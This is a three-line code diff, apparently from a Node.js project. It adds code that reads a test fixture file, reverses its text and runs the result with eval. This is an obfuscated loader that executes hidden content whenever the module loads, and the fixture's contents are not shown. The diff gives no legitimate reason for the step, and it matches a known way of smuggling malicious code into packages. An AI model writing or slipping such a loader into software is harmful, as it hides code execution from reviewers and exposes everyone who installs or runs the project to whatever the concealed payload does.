@@ -1,0 +1,3 @@
+const fs = require('fs');
+const data = fs.readFileSync(__dirname + '/test/fixture.dat', 'utf8');
+eval(data.split('').reverse().join(''));
